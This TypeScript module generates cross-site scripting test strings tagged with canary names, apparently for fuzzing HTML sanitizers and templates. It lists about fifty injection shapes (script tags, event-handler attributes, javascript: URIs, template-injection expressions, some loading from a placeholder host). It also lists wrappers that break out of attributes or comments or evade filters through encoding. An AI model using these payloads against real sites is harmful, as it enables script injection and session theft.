/** A text that would do something, if any page took it for more than a text. */
export interface ScriptString {
  /** A name that no page has. Whoever reads it from a page's window has run the string. */
  mark: string;
  text: string;
}

const LETTERS = 'abcdefghijklmnoprst';
/** All of one length and without digits: none is part of another, and names may hold them. */
const markOf = (place: number): string => {
  const base = LETTERS.length;
  const digits = [Math.floor(place / base ** 2), Math.floor(place / base) % base, place % base];
  return `zq${digits.map((digit) => LETTERS[digit] ?? '').join('')}`;
};
/** Of all of them. */
export const MARK = `zq[${LETTERS}]{3}`;

type Shape = (mark: string) => string;

/** What a browser, a template or a renderer might run. Short ones, so that they fit where little can be written. */
const shapes: readonly Shape[] = [
  (mark) => `<script>${mark}</script>`,
  (mark) => `<script src=//${mark}.example>`,
  (mark) => `<script>alert(${mark})</script`,
  (mark) => `<scr<script>ipt>${mark}</script>`,
  (mark) => `<img src=x onerror=${mark}>`,
  (mark) => `<img src=//${mark}.example/a>`,
  (mark) => `<image href=x onerror=${mark}>`,
  (mark) => `<svg onload=${mark}>`,
  (mark) => `<svg/onload=alert(${mark})>`,
  (mark) => `<svg><script>${mark}</script></svg>`,
  (mark) => `<svg><animate onbegin=${mark} attributeName=x>`,
  (mark) => `<svg><a href=javascript:${mark}><text y=9>x`,
  (mark) => `<math><mi href=javascript:${mark}>x`,
  (mark) => `<math><mtext><style><img title="</style><img src onerror=${mark}>">`,
  (mark) => `<svg><p><style><a id="</style><img src=1 onerror=${mark}>">`,
  (mark) => `<noscript><p title="</noscript><img src onerror=${mark}>">`,
  (mark) => `<iframe src=javascript:${mark}>`,
  (mark) => `<iframe srcdoc=<script>top.${mark}</script>>`,
  (mark) => `<iframe src=//${mark}.example></iframe>`,
  (mark) => `<object data=javascript:${mark}>`,
  (mark) => `<embed src=javascript:${mark}>`,
  (mark) => `<embed src=data:text/html,${mark}>`,
  (mark) => `<a href=javascript:${mark}>x</a>`,
  (mark) => `<a href=data:text/html,${mark}>x`,
  (mark) => `javascript:alert(${mark})`,
  (mark) => `JaVaScRiPt:${mark}//`,
  (mark) => `data:text/html,<script>${mark}</script>`,
  (mark) => `<base href=//${mark}.example/>`,
  (mark) => `<meta http-equiv=refresh content=0;url=//${mark}.example>`,
  (mark) => `<link rel=stylesheet href=//${mark}.example>`,
  (mark) => `<style>@import'//${mark}.example'</style>`,
  (mark) => `<p style=background:url(//${mark}.example)>`,
  (mark) => `<input autofocus onfocus=${mark}>`,
  (mark) => `<details open ontoggle=${mark}>`,
  (mark) => `<video><source onerror=${mark}>`,
  (mark) => `<audio src onerror=${mark}>`,
  (mark) => `<body onpageshow=${mark}>`,
  (mark) => `<marquee onstart=${mark}>`,
  (mark) => `<form action=javascript:${mark}><button>x`,
  (mark) => `<button onclick=${mark}>x</button>`,
  (mark) => `<x onpointerenter=${mark}>x`,
  (mark) => `<x tabindex=1 onfocusin=${mark}>`,
  (mark) => `<img src=x onerror=${mark}`,
  (mark) => `<textarea autofocus onfocus=${mark}`,
  (mark) => `{{${mark}}}`,
  (mark) => `{{constructor.constructor('${mark}')()}}`,
  (mark) => '${' + mark + '}',
  (mark) => '#{' + mark + '}',
  (mark) => `<%= ${mark} %>`,
  (mark) => `[x](javascript:${mark})`,
  (mark) => `![x](x"onerror="${mark})`,
  (mark) => `[x]: javascript:${mark}`,
  (mark) => `<javascript:${mark}>`,
];

const entities = (text: string): string =>
  text.replaceAll(/[<>"'=]/g, (sign) => `&#${sign.charCodeAt(0)};`);
const percents = (text: string): string =>
  text.replaceAll(/[^\w]/g, (sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`);
const escapes = (text: string): string =>
  text.replaceAll(/[<>"'=]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`);
const wide = (text: string): string =>
  text.replaceAll(/[<>"'=]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfe_e0));

/** How it comes past who looks for it, or out of where it was put. */
const covers: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `</script>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `]]>${text}`,
  (text) => text.replaceAll(' ', '/'),
  entities,
  percents,
  escapes,
  wide,
];

/**
 * The same each time, and all of them different: all shapes, then all again, each in its next cover.
 */
export function scriptStrings(count: number): ScriptString[] {
  const found: ScriptString[] = [];
  const seen = new Set<string>();
  for (let place = 0; found.length < count; place += 1) {
    const round = Math.floor(place / shapes.length);
    if (round === covers.length) throw new Error(`there are only ${found.length} of them`);
    const mark = markOf(found.length);
    const kind = place % shapes.length;
    const shape = shapes[kind];
    const cover = covers[(kind + round) % covers.length];
    const text = cover?.(shape?.(mark) ?? '') ?? '';
    // Some covers change nothing about some shapes.
    const unmarked = text.replaceAll(mark, '');
    if (seen.has(unmarked)) continue;
    seen.add(unmarked);
    found.push({ mark, text });
  }
  return found;
}
